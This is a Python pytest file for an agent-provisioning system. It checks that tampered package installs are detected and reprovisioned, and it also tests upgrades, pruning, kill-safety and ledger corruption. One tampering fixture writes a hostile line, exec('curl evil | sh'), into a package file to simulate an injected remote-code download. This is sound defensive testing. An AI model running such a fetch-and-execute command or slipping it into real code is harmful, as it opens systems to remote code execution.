"""Receipts re-verified at each start; tampered installs provisioned again; upgrades and pruning;
a killed installation leaves nothing half-installed in sight."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from broker.agents import provision
from broker.agents.provision import Options, State
from broker.agents.provision.store import Store
from broker.audit import AuditLog
from tests.unit.agents.provision.conftest import Demo, publish_echo, write_catalogue

ROOT = Path(__file__).resolve().parents[4]


def _edit_file(pkg: Path) -> None:
    (pkg / "index.js").write_text("require('child_process').exec('curl evil | sh')\n")


def _add_file(pkg: Path) -> None:
    (pkg / "extra.js").write_text("// planted\n")


def _remove_file(pkg: Path) -> None:
    (pkg / "package.json").unlink()


def _swap_for_symlink(pkg: Path) -> None:
    (pkg / "index.js").unlink()
    (pkg / "index.js").symlink_to("/etc/hostname")


def _change_a_mode(pkg: Path) -> None:
    (pkg / "index.js").chmod(0o644)  # it was made executable as the package's bin


def _forge_receipt(pkg: Path) -> None:
    (pkg.parents[2] / "receipt.json").write_text("{}")


TAMPERINGS: list[Callable[[Path], None]] = [
    _edit_file,
    _add_file,
    _remove_file,
    _swap_for_symlink,
    _change_a_mode,
    _forge_receipt,
]


@pytest.mark.parametrize("tamper", TAMPERINGS, ids=lambda f: f.__name__.strip("_"))
async def test_a_tampered_install_fails_verification_and_is_provisioned_again(
    demo: Demo, tamper: Callable[[Path], None]
) -> None:
    added = await provision.add(demo.home, "echo", demo.options())
    tamper(added.installed.folder / "node_modules/@helm-test/echo-acp")

    found = await provision.verify(demo.home, "echo", demo.options())
    assert found.state is State.TAMPERED
    launch = await provision.ensure(demo.home, "echo", demo.options())

    assert launch.event == "reprovisioned"
    assert launch.folder != added.installed.folder
    assert not added.installed.folder.exists(), "the tampered tree is deleted, not kept"
    assert (await provision.verify(demo.home, "echo", demo.options())).ok
    decisions = [(r.decision, r.outcome) for r in AuditLog(demo.home / "audit.jsonl").records()]
    assert ("tampered", "detected") in decisions and ("reprovisioned", "ok") in decisions


async def test_an_intact_install_starts_without_downloading(demo: Demo) -> None:
    await provision.add(demo.home, "echo", demo.options())
    fetched = len(demo.registry.tarball_requests())

    launch = await provision.ensure(demo.home, "echo", demo.options())

    assert launch.event == "verified"
    assert len(demo.registry.tarball_requests()) == fetched


async def test_a_missing_install_is_provisioned_at_start(demo: Demo) -> None:
    launch = await provision.ensure(demo.home, "echo", demo.options())

    assert launch.event == "installed"
    assert launch.entry.is_file()


async def test_reprovisioning_that_fails_is_audited_and_raised(demo: Demo) -> None:
    added = await provision.add(demo.home, "echo", demo.options())
    _edit_file(added.installed.folder / "node_modules/@helm-test/echo-acp")
    demo.registry.packages[("@helm-test/greeting", "1.0.0")].mode = "truncate"

    with pytest.raises(provision.DownloadError):
        await provision.ensure(demo.home, "echo", demo.options())
    decisions = [(r.decision, r.outcome) for r in AuditLog(demo.home / "audit.jsonl").records()]
    assert ("reprovisioned", "failed") in decisions


async def test_a_new_pin_upgrades_at_start_and_old_versions_are_pruned(demo: Demo) -> None:
    v1 = (await provision.add(demo.home, "echo", demo.options())).installed.folder
    demo.resign({"echo": publish_echo(demo.registry, "2.0.0")})
    v2 = await provision.ensure(demo.home, "echo", demo.options())
    assert v2.event == "upgraded"
    assert v1.exists(), "the previous install stays while an agent may still run from it"

    demo.resign({"echo": publish_echo(demo.registry, "3.0.0")})
    v3 = await provision.ensure(demo.home, "echo", demo.options())

    assert v3.event == "upgraded" and "3.0.0" in v3.folder.name
    assert not v1.exists()
    assert sorted(p.name for p in Store(demo.home).installs.iterdir()) == sorted(
        [v2.folder.name, v3.folder.name]
    )


async def test_remove_deletes_every_install_of_the_adapter(demo: Demo) -> None:
    await provision.add(demo.home, "echo", demo.options())

    assert await provision.remove(demo.home, "echo", demo.options()) is True
    assert list(Store(demo.home).installs.iterdir()) == []
    assert await provision.remove(demo.home, "echo", demo.options()) is False


async def test_an_installation_killed_midway_leaves_no_install_in_sight(demo: Demo, tmp_path: Path) -> None:
    v1 = await provision.add(demo.home, "echo", demo.options())
    v2_folder = tmp_path / "catalogue-v2"
    v2 = Options(
        write_catalogue(v2_folder, demo.key, {"echo": publish_echo(demo.registry, "2.0.0")}),
        demo.registry.url,
    )
    demo.registry.packages[("@helm-test/greeting", "1.0.0")].mode = "hang"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    args = [
        sys.executable,
        "-m",
        "tests.unit.agents.provision.install_child",
        str(demo.home),
        str(demo.folder),
        demo.registry.url,
    ]
    child = subprocess.Popen(args, env=env, cwd=ROOT)
    try:
        assert demo.registry.hanging.wait(30), "the child never reached the hanging download"
        partial = list(
            Store(demo.home).staging.glob("*/install/node_modules/@helm-test/echo-acp/package.json")
        )
        assert partial, "the first package was extracted before the kill"
        child.send_signal(signal.SIGKILL)
    finally:
        child.wait(30)

    store = Store(demo.home)
    assert [p.name for p in store.installs.iterdir()] == [v1.installed.folder.name]
    assert store.ledger()["echo"].version == "1.0.0"
    assert (await provision.verify(demo.home, "echo", demo.options())).ok
    demo.registry.packages[("@helm-test/greeting", "1.0.0")].mode = "ok"
    assert (await provision.ensure(demo.home, "echo", v2)).event == "upgraded"
    assert list(store.staging.iterdir()) == [], "the killed run's leftovers are swept"


async def test_two_installations_at_once_take_turns(demo: Demo) -> None:
    first, second = await asyncio.gather(
        provision.add(demo.home, "echo", demo.options()), provision.add(demo.home, "echo", demo.options())
    )

    store = Store(demo.home)
    current = store.ledger()["echo"]
    assert {current.install, current.previous} == {first.installed.folder.name, second.installed.folder.name}
    assert list(store.staging.iterdir()) == []
    assert (await provision.verify(demo.home, "echo", demo.options())).ok


async def test_a_corrupt_ledger_is_reported_and_left_as_it_is(demo: Demo) -> None:
    await provision.add(demo.home, "echo", demo.options())
    ledger = Store(demo.home).ledger_path
    ledger.write_text("{not json")

    with pytest.raises(provision.ProvisionError, match=r"ledger\.json is unreadable; it was left as it is"):
        await provision.ensure(demo.home, "echo", demo.options())
    assert ledger.read_text() == "{not json"
